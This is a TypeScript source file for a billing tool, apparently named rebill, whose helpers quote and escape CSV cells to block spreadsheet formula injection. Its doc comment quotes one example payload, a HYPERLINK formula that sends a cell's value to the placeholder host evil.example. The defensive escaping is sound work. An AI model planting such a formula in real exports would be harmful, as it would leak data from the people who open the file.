/**
 * One CSV cell, as every CSV rebill writes (exports, `rebill forecast --csv`) spells it.
 *
 * Formula injection: a spreadsheet runs a cell that starts with `=`, `+`, `-` or `@` (and some
 * treat a leading tab or carriage return the same way), so a customer reference such as
 * `=HYPERLINK("http://evil.example/?leak="&A2,"Click")` would open as a live link. As OWASP
 * recommends, such a cell is prefixed with a single quote (shown as text, never evaluated) and
 * quoted. A cell that is a plain number (`-1500`, `12.5`) is left as it is: it cannot be a
 * formula, and a negative amount stays a number for the spreadsheet's sums.
 */
const FORMULA_START = /^[=+\-@\t\r]/;
const NUMBER = /^-?\d+(\.\d+)?$/;

export function csvCell(v: unknown): string {
  if (v === null || v === undefined) return '';
  const s = typeof v === 'object' ? JSON.stringify(v) : String(v);
  if (FORMULA_START.test(s) && !NUMBER.test(s)) return `"'${s.replaceAll('"', '""')}"`;
  return /[",\n\r]/.test(s) ? `"${s.replaceAll('"', '""')}"` : s;
}

/** One CSV line (with its newline) of these cells. */
export const csvLine = (cells: readonly unknown[]): string => `${cells.map(csvCell).join(',')}\n`;
